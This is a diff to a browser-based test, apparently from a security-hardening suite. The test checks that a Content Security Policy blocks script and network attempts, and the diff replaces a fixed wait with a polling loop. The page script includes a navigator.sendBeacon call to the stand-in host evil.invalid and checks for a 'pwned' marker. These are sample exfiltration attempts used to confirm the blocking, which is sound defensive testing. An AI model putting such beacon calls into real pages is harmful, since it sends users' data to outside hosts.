@@ -8,7 +8,7 @@ from hardening.conftest import PHOTO
 
 NOWHERE = "--host-resolver-rules=MAP evil.invalid 127.0.0.1:1"
 # Each tries to run something, or to reach another host; the policy should forbid them all.
-ATTEMPTS = """async () => {
+ATTEMPTS = """async (expected) => {
   const broken = [];
   document.addEventListener('securitypolicyviolation', (event) => {
     broken.push(event.effectiveDirective);
@@ -38,7 +38,9 @@ ATTEMPTS = """async () => {
     try { await tried(); } catch { /* as it should be */ }
   }
   navigator.sendBeacon('https://evil.invalid/', 'x');
-  await new Promise((done) => setTimeout(done, 300));
+  const until = performance.now() + 20_000;  // a busy browser tells late
+  while (performance.now() < until && !expected.every((one) => broken.includes(one)))
+    await new Promise((done) => setTimeout(done, 20));
   return {
     broken: [...new Set(broken)].sort(), pwned: 'pwned' in window,
     base: document.baseURI, here: location.href,
@@ -74,7 +76,7 @@ def served(tmp_path_factory):
 def test_the_policy_holds_in_the_browser(browser, served, path):
     page = browser.new_page()
     page.goto(served.url + path)
-    found = page.evaluate(ATTEMPTS)
+    found = page.evaluate(ATTEMPTS, sorted(MUST_BREAK))
     assert not found["pwned"] and set(found["broken"]) >= MUST_BREAK, set(MUST_BREAK) - set(
         found["broken"]
     )
